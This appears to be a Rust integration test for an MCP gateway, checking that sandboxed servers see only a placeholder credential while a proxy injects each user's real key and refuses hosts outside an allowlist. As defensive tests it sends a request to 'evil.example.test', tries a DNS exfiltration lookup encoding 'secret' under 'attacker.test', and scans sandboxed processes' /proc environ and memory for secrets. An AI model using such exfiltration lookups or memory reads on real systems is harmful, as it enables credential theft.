//! Sealed credentials end to end through real sandboxes: a server with egress entitlements gets
//! a veth pair and HTTPS_PROXY; it sends only a placeholder, and the local HTTPS upstream (its
//! own CA) sees each profile owner's real key. Hosts outside the manifest's allowlist are
//! refused; the server's environment never holds the secret.

mod common;

use common::upstream::{HOST, UPSTREAM_IP, egress_gateway};
use common::{RawClient, TestGateway};
use serde_json::{Value, json};
use std::net::Ipv4Addr;

/// The `fetch` server's manifest at `tier`, its credential injected by `inject`.
fn manifest(tier: &str, inject: &str) -> String {
    format!(
        r#"
schemaVersion: 1
name: fetch
version: 0.1.0
source: {{repo: github.com/gigmcp/gigmcp, tag: v0.1.0}}
image: {{ref: ghcr.io/gigmcp/fetch, digest: "sha256:{digest}", entrypoint: /fetch}}
tier: {tier}
displayName: Fetch
category: testing
entitlements:
  egress: [api.example.test]
credentials:
  - id: api_key
    type: api_key
    provider: example
    inject: {inject}
tools:
  - {{name: fetch, default: true}}
  - {{name: fetch_direct, default: true}}
  - {{name: resolve, default: true}}
  - {{name: env, default: true}}
"#,
        digest = "ab".repeat(32)
    )
}

/// Sealed: the proxy puts the key in the header.
fn sealed() -> String {
    manifest(
        "sealed",
        r#"{header: Authorization, format: "Bearer {token}"}"#,
    )
}

/// Entrusted: the server holds the key in its environment.
fn entrusted() -> String {
    manifest("entrusted", "{env: API_KEY}")
}

async fn text(c: &RawClient, id: i64, tool: &str, args: Value) -> String {
    let out = c
        .call(id, "tools/call", json!({"name": tool, "arguments": args}))
        .await;
    out["result"]["content"][0]["text"]
        .as_str()
        .unwrap_or_else(|| panic!("{out}"))
        .to_string()
}

/// [`egress_gateway`] with the `fetch` server installed under `manifest`.
async fn fetch_gateway(
    ip: Ipv4Addr,
    users: &[(&'static str, &'static str)],
    manifest: &str,
) -> (TestGateway, gigmcp_store::ServerId) {
    let gw = egress_gateway(ip, users).await;
    gw.add_server("fetch", "fetch").await;
    let server = gw.store.server_by_name("fetch").await.unwrap().unwrap();
    gw.set_manifest(server.id, manifest).await;
    (gw, server.id)
}

#[tokio::test]
async fn each_owner_s_key_is_injected_at_the_boundary_and_never_enters_the_sandbox() {
    let (gw, server_id) = fetch_gateway(
        UPSTREAM_IP,
        &[("ALICEKEY", "alice"), ("BOBKEY", "bob")],
        &sealed(),
    )
    .await;
    let alice = gw.add_profile_of("alice", "alice-work", &["fetch"]).await;
    let bob = gw.add_profile_of("bob", "bob-work", &["fetch"]).await;
    for (user, key) in [("alice", "ALICEKEY"), ("bob", "BOBKEY")] {
        let owner = gw.store.user_by_username(user).await.unwrap().unwrap();
        gigmcp_vault::put_secret(
            &gw.store,
            &gw.keyring,
            owner.id,
            server_id,
            "api_key",
            key.as_bytes(),
        )
        .await
        .unwrap();
    }
    let mut a = RawClient::new(gw.url("alice-work"), &alice.token);
    let mut b = RawClient::new(gw.url("bob-work"), &bob.token);
    a.initialize().await;
    b.initialize().await;

    let url = format!("https://{HOST}/v1/me");
    // both at once: each gets its own owner's key
    let (ra, rb) = tokio::join!(
        text(&a, 2, "fetch_fetch", json!({"url": url})),
        text(&b, 2, "fetch_fetch", json!({"url": url}))
    );
    assert_eq!(ra, "HTTP/1.1 200 OK\nhello alice");
    assert_eq!(rb, "HTTP/1.1 200 OK\nhello bob");

    // the sandbox holds a placeholder, a proxy on its host-side address and the CA; never the key
    let env = text(&a, 3, "fetch_env", json!({})).await;
    assert!(
        env.contains("GIG_CREDENTIAL_API_KEY=gigmcp-placeholder-"),
        "{env}"
    );
    assert!(env.contains("HTTPS_PROXY=http://10."), "{env}");
    assert!(
        env.contains("SSL_CERT_FILE=/etc/gigmcp/egress-ca.pem"),
        "{env}"
    );
    assert!(
        !env.contains("ALICEKEY") && !env.contains("BOBKEY"),
        "{env}"
    );

    // a host outside the manifest's allowlist is refused at CONNECT
    let denied = text(
        &a,
        4,
        "fetch_fetch",
        json!({"url": "https://evil.example.test/"}),
    )
    .await;
    assert!(denied.starts_with("HTTP/1.1 403"), "{denied}");

    // a server that ignores HTTPS_PROXY: its resolver is the gateway, which hands out the
    // sandbox's host-side address for allowlisted names only, and the transparent TLS listener
    // there injects the same owner's key
    let direct = text(&a, 5, "fetch_fetch_direct", json!({"url": url})).await;
    assert_eq!(direct, "HTTP/1.1 200 OK\nhello alice");
    let direct = text(&b, 5, "fetch_fetch_direct", json!({"url": url})).await;
    assert_eq!(direct, "HTTP/1.1 200 OK\nhello bob");
    let resolved = text(&a, 6, "fetch_resolve", json!({"name": HOST})).await;
    let host_side = env
        .lines()
        .find_map(|l| l.strip_prefix("HTTPS_PROXY=http://"))
        .and_then(|v| v.strip_suffix(":3128"))
        .unwrap_or_else(|| panic!("{env}"));
    assert_eq!(resolved, format!("rcode=0 {host_side}"));
    let nx = text(&a, 7, "fetch_resolve", json!({"name": "evil.example.test"})).await;
    assert_eq!(nx, "rcode=3", "not allowlisted: NXDOMAIN");
    let exfil = text(
        &a,
        8,
        "fetch_resolve",
        json!({"name": "c2VjcmV0.attacker.test"}),
    )
    .await;
    assert_eq!(exfil, "rcode=3");
    let out = a
        .call(
            9,
            "tools/call",
            json!({"name": "fetch_fetch_direct", "arguments": {"url": "https://evil.example.test/"}}),
        )
        .await;
    let failed = out["result"]["content"][0]["text"]
        .as_str()
        .unwrap_or_default();
    assert!(
        out["result"]["isError"] == true && failed.contains("resolving evil.example.test"),
        "{out}"
    );

    // neither the environment nor the memory of any fetch sandbox ever held a real key
    let scanned = scan_sandboxed_servers(&[b"ALICEKEY", b"BOBKEY"]);
    assert!(scanned >= 2, "found {scanned} sandboxed servers to scan");

    // and the requests were audited
    let mut events = Vec::new();
    for _ in 0..100 {
        events = gw
            .store
            .list_audit(100)
            .await
            .unwrap()
            .into_iter()
            .filter(|e| e.action == "egress.request")
            .collect();
        // written asynchronously: wait for the last refusal (DNS) to land
        if events
            .iter()
            .any(|e| e.detail.contains("attacker.test") && e.detail.contains("\"DNS\""))
        {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert!(
        events
            .iter()
            .any(|e| e.actor == "alice" && e.target == "alice-work/fetch"),
        "{events:?}"
    );
    assert!(events.iter().any(|e| e.actor == "bob"), "{events:?}");
    assert!(
        events
            .iter()
            .any(|e| e.detail.contains("evil.example.test")),
        "{events:?}"
    );
    // the DNS refusal is audited too
    assert!(
        events
            .iter()
            .any(|e| e.detail.contains("attacker.test") && e.detail.contains("\"DNS\"")),
        "{events:?}"
    );
    gw.stop().await;
}

/// Reads the environment and every readable memory region of each process running a
/// sandboxed static server (`/.gig/server`), asserting none holds any of `secrets`; returns
/// how many processes were scanned. Root reads them as a debugger would.
fn scan_sandboxed_servers(secrets: &[&[u8]]) -> usize {
    use std::io::{Read, Seek, SeekFrom};
    let contains = |hay: &[u8], needle: &[u8]| hay.windows(needle.len()).any(|w| w == needle);
    let mut scanned = 0;
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        let Ok(cmdline) = std::fs::read(format!("/proc/{pid}/cmdline")) else {
            continue;
        };
        if !cmdline.starts_with(b"/.gig/server\0") {
            continue;
        }
        let environ = std::fs::read(format!("/proc/{pid}/environ")).unwrap_or_default();
        let Ok(maps) = std::fs::read_to_string(format!("/proc/{pid}/maps")) else {
            continue;
        };
        let Ok(mut mem) = std::fs::File::open(format!("/proc/{pid}/mem")) else {
            continue;
        };
        if !contains(&environ, b"GIG_CREDENTIAL_API_KEY=gigmcp-placeholder-") {
            continue; // another test's sandbox
        }
        for line in maps.lines() {
            let mut fields = line.split_whitespace();
            let (Some(range), Some(perms)) = (fields.next(), fields.next()) else {
                continue;
            };
            if !perms.starts_with('r') {
                continue;
            }
            let (start, end) = range.split_once('-').unwrap();
            let start = u64::from_str_radix(start, 16).unwrap();
            let end = u64::from_str_radix(end, 16).unwrap();
            if end - start > 512 << 20 || mem.seek(SeekFrom::Start(start)).is_err() {
                continue;
            }
            let mut region = vec![0u8; (end - start) as usize];
            let Ok(n) = mem.read(&mut region) else {
                continue; // e.g. [vvar]
            };
            for secret in secrets {
                assert!(
                    !contains(&region[..n], secret),
                    "pid {pid} holds {} in {line}",
                    String::from_utf8_lossy(secret)
                );
            }
        }
        for secret in secrets {
            assert!(!contains(&environ, secret), "pid {pid} environment");
        }
        scanned += 1;
    }
    scanned
}

#[tokio::test]
async fn an_entrusted_server_holds_its_secret_and_still_reaches_only_allowed_hosts() {
    // its own upstream address, so this test can run beside the sealed one
    let (gw, server_id) = fetch_gateway(
        Ipv4Addr::new(127, 0, 0, 43),
        &[("CAROLKEY", "carol")],
        &entrusted(),
    )
    .await;
    let carol = gw.add_profile_of("carol", "carol-work", &["fetch"]).await;
    let mut c = RawClient::new(gw.url("carol-work"), &carol.token);
    c.initialize().await;

    // without a stored secret the server does not start, and the error says how to fix it
    let out = c
        .call(
            2,
            "tools/call",
            json!({"name": "fetch_env", "arguments": {}}),
        )
        .await;
    let message = out["error"]["message"].as_str().unwrap_or_default();
    assert!(
        message.contains("gigmcp credential set fetch --profile carol-work"),
        "{out}"
    );

    let owner = gw.store.user_by_username("carol").await.unwrap().unwrap();
    gigmcp_vault::put_secret(
        &gw.store,
        &gw.keyring,
        owner.id,
        server_id,
        "api_key",
        b"CAROLKEY",
    )
    .await
    .unwrap();
    let env = text(&c, 3, "fetch_env", json!({})).await;
    assert!(env.lines().any(|l| l == "API_KEY=CAROLKEY"), "{env}");
    let ok = text(
        &c,
        4,
        "fetch_fetch",
        json!({"url": format!("https://{HOST}/")}),
    )
    .await;
    assert_eq!(ok, "HTTP/1.1 200 OK\nhello carol");
    let denied = text(
        &c,
        5,
        "fetch_fetch",
        json!({"url": "https://evil.example.test/"}),
    )
    .await;
    assert!(denied.starts_with("HTTP/1.1 403"), "{denied}");
    gw.stop().await;
}
